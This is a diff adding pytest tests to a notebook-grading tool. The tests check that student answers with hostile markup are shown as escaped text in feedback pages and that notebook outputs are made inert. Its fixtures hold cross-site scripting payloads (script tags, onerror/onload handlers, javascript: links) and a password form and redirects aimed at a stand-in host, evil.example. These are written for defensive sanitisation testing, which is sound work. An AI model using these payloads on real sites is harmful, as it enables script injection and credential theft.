@@ -12,6 +12,7 @@ from grader import pipeline
 from grader.feedback import FeedbackError, feedback_zip, generate_feedback
 from grader.report import save_outcomes
 from support.grading import A1, grade_without_kernel, open_batch, submission_file
+from support.pages import live_markup
 
 
 @pytest.fixture(scope="module")
@@ -61,3 +62,111 @@ def test_nothing_to_return_says_what_to_run(course, tmp_path):
         feedback_zip(course.with_grading_dir(tmp_path), A1, "canvas", tmp_path / "x.zip")
     with pytest.raises(FeedbackError, match="choose one of canvas, moodle"):
         feedback_zip(course.with_grading_dir(tmp_path), A1, "blackboard", tmp_path / "x.zip")
+
+
+# ---- what a student wrote is shown, never run; a notebook feedback cannot read fails only its student ----
+
+HOSTILE_ANSWER = """### Why the permutation does not matter
+
+Each query attends to **every** key: softmax over a *set*, see `weights.sum(-1)` and
+[the paper](https://arxiv.org/abs/1706.03762).
+
+| order | output |
+|:--|--:|
+| any | the same |
+
+<script>document.title = "owned by a script"</script>
+<img src="x" onerror="document.title = 'owned by onerror'">
+<iframe src="https://evil.example/"></iframe>
+<a href="javascript:document.title = 'owned by a link'">click</a>
+<a href=" JaVaScRiPt:alert(1)">click again</a>
+<svg onload="alert(1)"><circle r="4"/></svg>
+<div onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>
+<form action="https://evil.example/"><input name="password"></form>
+<style>body { display: none }</style>
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<object data="https://evil.example/x.swf"></object>
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile_feedback(course, tmp_path_factory):
+    """alice answered in hostile markup (and added a Markdown cell of her own); mallory's answer
+    cell holds the hidden-test marker twice; bob is ordinary. All three came from a Canvas download."""
+    import nbformat
+
+    from grader import cells
+    tmp = tmp_path_factory.mktemp("hostile-feedback")
+    with open_batch(course, tmp) as batch:
+        batch.prepare()
+        graded = []
+        for student, login, change in (("alice", "201", "markup"), ("mallory", "202", "markers"), ("bob", "203", "")):
+            submission = submission_file(course, tmp, student)
+            nb = nbformat.read(str(submission.path), as_version=4)
+            for cell in nb.cells:
+                if change == "markup" and cells.grade_id(cell) == "written_permutation":
+                    cell.source = HOSTILE_ANSWER
+                if change == "markers" and cells.grade_id(cell) == "sdpa_solution":
+                    cell.source += "\n# ### BEGIN HIDDEN TESTS\n# ### BEGIN HIDDEN TESTS\n"
+            if change == "markup":
+                nb.cells.append(nbformat.v4.new_markdown_cell("<script>document.title = 'my own cell'</script>"))
+            nbformat.write(nb, str(submission.path))
+            submission = grade_without_kernel(submission, batch)
+            graded.append(pipeline.record(dataclasses.replace(
+                submission, login=login, preset="canvas", lms_name=f"{student}_{login}_50{login}_{A1}.ipynb"), batch))
+        save_outcomes(batch.course, A1, graded)
+        skipped = []
+        pages = generate_feedback(batch.course, A1, skipped)
+        return batch.course, tmp, {p.parts[-3]: p for p in pages}, skipped
+
+
+def test_hostile_markup_in_a_written_answer_is_shown_not_run(hostile_feedback):
+    _, _, pages, _ = hostile_feedback
+    page = pages["alice"].read_text()
+    assert not live_markup(page), live_markup(page)
+    assert "&lt;script&gt;document.title = \"owned by a script\"&lt;/script&gt;" in page, "shown as text"
+    assert "&lt;script&gt;document.title = 'my own cell'&lt;/script&gt;" in page, "a cell the student added too"
+    # ordinary markdown still renders
+    for markup in ("<strong>every</strong>", "<em>set</em>", "<code>weights.sum(-1)</code>",
+                   '<a href="https://arxiv.org/abs/1706.03762">the paper</a>',
+                   '<th style="text-align:left;">order</th>', '<h3 id="Why-the-permutation-does-not-matter">'):
+        assert markup in page, markup
+
+
+def test_a_clean_page_is_unchanged_by_the_cleaning(hostile_feedback):
+    _, _, pages, _ = hostile_feedback
+    page = pages["bob"].read_text()
+    assert not live_markup(page)
+    shown_as_text = [tag for tag in ("p", "h1", "h2", "h3", "ul", "ol", "li", "table", "em", "strong", "code", "a ",
+                                     "img", "div", "span", "br", "details") if f"&lt;{tag}" in page]
+    assert not shown_as_text, f"the release's own Markdown shows these tags as text: {shown_as_text}"
+
+
+def test_a_notebook_feedback_cannot_read_is_named_and_everyone_else_gets_a_page(hostile_feedback):
+    course, tmp, pages, skipped = hostile_feedback
+    assert sorted(pages) == ["alice", "bob"]
+    assert skipped == ["feedback not written for mallory: a cell of their notebook holds the hidden-test marker "
+                       "'BEGIN HIDDEN TESTS' twice (nbgrader: Encountered nested begin hidden tests statements)"]
+    path, count, _ = feedback_zip(course, A1, "canvas", tmp / "canvas.zip")
+    assert count == 2 and sorted(zipfile.ZipFile(path).namelist()) == [f"alice_201_50201_{A1}-feedback.html",
+                                                                      f"bob_203_50203_{A1}-feedback.html"]
+
+
+def test_outputs_are_made_inert():
+    import nbformat
+
+    from grader.feedback_html import inert_outputs
+    nb = nbformat.v4.new_notebook()
+    cell = nbformat.v4.new_code_cell("display(...)")
+    cell.outputs = [
+        nbformat.v4.new_output("display_data", data={"text/html": "<b>ok</b><img src=x onerror=alert(1)>"}),
+        nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)"}),
+        nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg onload='alert(1)'/>", "text/plain": "fig"}),
+    ]
+    nb.cells.append(cell)
+    html, js, svg = inert_outputs(nb).cells[0].outputs
+    assert html.data["text/html"] == '<b>ok</b><img src="x">'
+    assert js.data == {"text/plain": "(an output of type application/javascript is not shown here)"}
+    assert svg.data["text/html"].startswith('<img alt="figure" src="data:image/svg+xml;base64,')
+    assert "image/svg+xml" not in svg.data
+    assert cell.outputs[1].data == {"application/javascript": "alert(1)"}, "the notebook itself is not changed"
